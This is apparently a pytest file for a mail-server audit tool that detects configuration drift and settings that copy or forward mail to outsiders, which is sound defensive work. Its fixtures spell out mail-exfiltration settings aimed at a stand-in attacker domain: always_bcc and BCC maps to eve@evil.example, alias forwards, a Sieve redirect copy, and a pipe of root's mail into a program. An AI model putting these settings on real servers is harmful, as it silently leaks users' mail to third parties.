"""S-6: what differs from what was accepted, who gets copies, and what a person has named."""

import pytest

from fixtures.gates.drift import hosts
from fixtures.gates.drift.judging import accepted_as, differences, judged, judged_strangers, strangers
from fixtures.gates.drift.reading import Source, State, dns_of
from fixtures.gates.present import DOVECOT, POSTFIX
from tests.judges import FAIL, LOOK, PASS, UNKNOWN, all_say, says

OURS = frozenset({"example.net", "dell.example.net", "localhost"})
ZONE = dns_of("example.net")
"""A source of one routed domain."""
AS_ACCEPTED = "expected as it was accepted"


def stands(parts: dict[str, str], source: str = POSTFIX, **more: object) -> State:
    return State({source: Source(parts, {}, LOOK, **more)})  # type: ignore[arg-type] # what only a zone has


def test_what_is_as_accepted_holds() -> None:
    parts = {"parameter myhostname": "dell.example.net"}
    said = "Dell's Postfix: expected as it was accepted, found all 1 parts of it"
    assert all_say(judged({POSTFIX: parts}, stands(parts)), "") == [(PASS, said)]
    (zone,) = judged({ZONE: parts}, stands(parts, ZONE))
    assert zone.domain == "example.net"


@pytest.mark.parametrize(
    ("before", "now", "named"),
    [
        ({}, {"parameter always_bcc": "eve@evil.example"}, "was not there, is eve@evil.example"),
        ({"parameter always_bcc": "a@b.example"}, {}, "was a@b.example, is not there"),
        ({"file /x": "mode 600 root:root"}, {"file /x": "mode 644 root:root"},
         "was mode 600 root:root, is mode 644 root:root"),
        ({"map hash:/v": "a b\nc d"}, {"map hash:/v": "a b\nc d\ne evil@evil.example"}, "+e evil@evil.example"),
    ],
)  # fmt: skip
def test_each_difference_is_named(before: dict[str, str], now: dict[str, str], named: str) -> None:
    ((verdict, said),) = all_say(judged({POSTFIX: before}, stands(now)), "")
    name = next(iter({**before, **now}))
    head = f"Dell's Postfix: {name}: expected as it was accepted, found {named}"
    assert (verdict, said) == (FAIL, f"{head}. Undo it, or accept it by name: python -m scripts.accept")


def test_what_an_interrupted_run_has_left_is_not_to_be_accepted() -> None:
    left = {"Dell's Postfix: file /etc/postfix/mxgate-guests": "python -m scripts.prepare_cloudflare --take-lock"}
    now = {"file /etc/postfix/mxgate-guests": "cloudflare.com OK", "file /x": "y"}
    found = [*judged({POSTFIX: {}}, stands(now), left)]
    assert [each.hint.endswith("scripts.accept") for each in found] == [False, True]
    assert found[0].hint.endswith(": python -m scripts.prepare_cloudflare --take-lock")


def test_a_program_that_can_not_be_seen_now_is_no_other() -> None:
    assert not list(differences({POSTFIX: {"listens at *:25": "master"}}, stands({"listens at *:25": "somebody"})))
    assert list(differences({POSTFIX: {"listens at *:25": "master"}}, stands({"listens at *:25": "python3"})))
    assert list(differences({POSTFIX: {}}, stands({"listens at *:25": "somebody"})))


def test_who_wrote_it_and_when_is_said() -> None:
    look = Source({"file /x": "new"}, {"file /x": "written 2026-11-26 22:10, its owner is eve"}, LOOK)
    (found,) = differences({POSTFIX: {"file /x": "old"}}, State({POSTFIX: look}))
    assert found.found == "was old, is new (written 2026-11-26 22:10, its owner is eve)"


def test_what_could_not_be_read_or_was_never_accepted_is_inconclusive() -> None:
    found = judged({POSTFIX: {}}, State({DOVECOT: Source({"x": "y"}, {}, LOOK)}, {POSTFIX: "no answer"}))
    accept = "Undo it, or accept it by name: python -m scripts.accept"
    unread = f"{DOVECOT}: {AS_ACCEPTED}, found it was not read when the first state was accepted. {accept}"
    assert [(each.verdict, each.sentence(), each.evidence) for each in found] == [
        (UNKNOWN, unread, (LOOK,)),
        (UNKNOWN, f"{POSTFIX}: {AS_ACCEPTED}, found no answer", ()),
    ]
    of_zone = [*judged({}, State({ZONE: Source({}, {}, LOOK)}, {ZONE: "no answer"}))]
    assert [each.domain for each in of_zone] == ["example.net", "example.net"]
    none = "what was accepted: expected a first state in the store, found none. Judge the gate again"
    assert all_say(judged(None, State()), "", 0) == [(UNKNOWN, none)]


def test_only_what_email_routing_adds_by_itself_passes() -> None:
    key = "v=DKIM1; p=abc (TTL 300)"
    known = {ZONE: {"MX example.net": "10 mail.example.net (TTL 300)"}}
    now = known[ZONE] | {"TXT cf._domainkey.example.net": key}
    assert not list(differences(known, stands(now, ZONE, placed=frozenset({key}))))
    assert list(differences(known, stands(now, ZONE)))
    gone = {"TXT cf._domainkey.example.net": key}
    assert list(differences(known, stands(gone, ZONE, placed=frozenset({key}))))
    (finding,) = judged(known, stands(now, ZONE))
    assert (finding.verdict, finding.domain, finding.evidence) == (FAIL, "example.net", (LOOK,))
    assert finding.hint.startswith("Cloudflare's audit log says who did it. Undo it, ")


@pytest.mark.parametrize(
    ("parts", "text"),
    [
        ({"parameter always_bcc": "eve@evil.example"}, "parameter always_bcc sends copies to eve@evil.example"),
        ({"override cleanup/unix/always_bcc": "eve@evil.example"}, "always_bcc sends copies to eve@evil.example"),
        (
            {"parameter recipient_bcc_maps": "hash:/b", "map hash:/b": "alice@example.net\teve@evil.example"},
            "recipient_bcc_maps sends copies to eve@evil.example (for alice@example.net, by hash:/b)",
        ),
        (
            {
                "parameter sender_bcc_maps": "texthash:/b",
                "file /b": "mode 644 root:root\n# x\n@example.net e@evil.example",
            },
            "sender_bcc_maps sends copies to e@evil.example",
        ),
        ({"parameter sender_bcc_maps": "mysql:/b.cf"}, "sender_bcc_maps sends copies by mysql:/b.cf, which can't be"),
        ({"parameter always_bcc": "eve@notexample.net"}, "always_bcc sends copies to eve@notexample.net"),
        ({"parameter recipient_bcc_maps": "static:eve@evil.example"}, "sends copies to eve@evil.example"),
        ({"parameter recipient_bcc_maps": "inline:{a@example.net=eve@evil.example}"}, "copies to eve@evil.example"),
        (
            {
                "parameter virtual_alias_maps": "hash:/v",
                "map hash:/v": "bob@example.net\tbob@localhost, b@evil.example",
            },
            "virtual_alias_maps leads mail to b@evil.example",
        ),
        (
            {"parameter virtual_alias_maps": "unionmap:{hash:/v}", "map hash:/v": "bob@example.net\tb@evil.example"},
            "virtual_alias_maps leads mail to b@evil.example",
        ),
        ({"parameter alias_maps": "hash:/a", "map hash:/a": 'root\t"|/bin/send"'},
         "leads mail into a program (for root"),
    ],
)  # fmt: skip
def test_a_copy_to_a_stranger_is_named(parts: dict[str, str], text: str) -> None:
    (found,) = strangers(POSTFIX, parts, OURS)
    assert text in found


@pytest.mark.parametrize(
    "parts",
    [
        {"parameter always_bcc": "archive@example.net"},
        {"parameter always_bcc": "archive@mail.dell.example.net"},
        {"parameter always_bcc": ""},
        {"parameter virtual_alias_maps": "hash:/v", "map hash:/v": "bob@example.net\talice@example.net\nroot\talice"},
        {"parameter smtpd_sender_restrictions": "eve@evil.example"},
    ],
)
def test_what_stays_with_the_operator_is_none(parts: dict[str, str]) -> None:
    assert not list(strangers(POSTFIX, parts, OURS))


def test_sieve_mirrors_and_rules_are_named() -> None:
    script = "\n".join(hosts.sieve_acts('if true { redirect :copy "eve@evil.example"; } # discard;\nkeep;'))
    found = strangers(DOVECOT, {"Sieve /srv/a/.dovecot.sieve": script, "Dovecot's mail_replica": "tcp:mirror"}, OURS)
    assert list(found) == [
        f'{DOVECOT}: Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"',
        f"{DOVECOT}: Dovecot's mail_replica mirrors mailboxes (mail_replica)",
    ]
    assert list(strangers(DOVECOT, {"Sieve /b": "redirect text:"}, OURS)) == [f"{DOVECOT}: Sieve /b: redirect text:"]
    rules = {"rule a@example.net": "forward eve@evil.example", "rule b@example.net": "forward b@dell.example.net"}
    rules["rule c@example.net"] = "forward eve@evil.example (disabled)"
    assert list(strangers("Email Routing of example.net", rules, OURS)) == [
        "Email Routing of example.net: rule a@example.net: forward eve@evil.example"
    ]


def test_what_a_person_named_passes() -> None:
    parts = {"parameter always_bcc": "eve@evil.example"}
    it = "Dell's Postfix: parameter always_bcc sends copies to eve@evil.example"
    nobody = "expected nobody but the domains' own users gets a copy of their mail, unless accepted by name, found"
    accept = "Undo it, or accept it by name: python -m scripts.accept"
    red = (FAIL, f"{it}: {nobody} nobody has accepted it by name. {accept}")
    for filters, named, first in (
        ((), (), red),
        ((), ("parameter always_bcc",), red),
        ((), (it,), (PASS, f"{it}: {nobody} accepted by name ({it})")),
        (("copies: eve@evil.example",), (), (PASS, f"{it}: {nobody} accepted by name (copies: eve@evil.example)")),
    ):
        judged_, looked = judged_strangers(stands(parts), OURS, filters, named)
        assert says(judged_, "") == first
        assert says(looked, "", 0) == (PASS, f"copies: {nobody} looked for in Dell's Postfix")
    assert not list(judged_strangers(State(), OURS, (), ()))
    rules = {"rule a@example.net": "forward eve@evil.example"}
    for named in ((), ("Email Routing of example.net: rule a@example.net: forward eve@evil.example",)):
        there = State({"Email Routing of example.net": Source(rules, {}, LOOK), ZONE: Source({}, {}, LOOK)})
        of_zone, looked = judged_strangers(there, OURS, (), named)
        assert of_zone.domain == "example.net"
        assert looked.found == "looked for in Email Routing of example.net, DNS of example.net"


@pytest.mark.parametrize(
    ("text", "filters", "by"),
    [
        ('Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"', "sieve", ""),
        ('Sieve /srv/eve@evil.example/x: redirect :copy "mallory@evil.example"', "eve@evil.example", ""),
        ('Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"', "eve@evil.example", "eve@evil.example"),
        ("parameter always_bcc sends copies to eve@evil.example", "always_bcc", ""),
        ("parameter always_bcc sends copies to eve@evil.example", "ve@evil.example", ""),
        ("parameter always_bcc sends copies to eve@evil.example", "bcc: eve@evil.example", "bcc: eve@evil.example"),
        ("map leads mail to eve@evil.example (for a@example.net, by hash:/v)", "a@example.net", ""),
        ("Sieve /srv/a/x: pipe", "pipe", ""),
        ('Sieve /srv/a/x: redirect "eve@evil.example" "mallory@evil.example"', "eve@evil.example", ""),
    ],
)
def test_a_filter_of_the_settings_accepts_by_the_strangers_whole_address(text: str, filters: str, by: str) -> None:
    assert accepted_as(text, OURS, (filters,), ()) == by
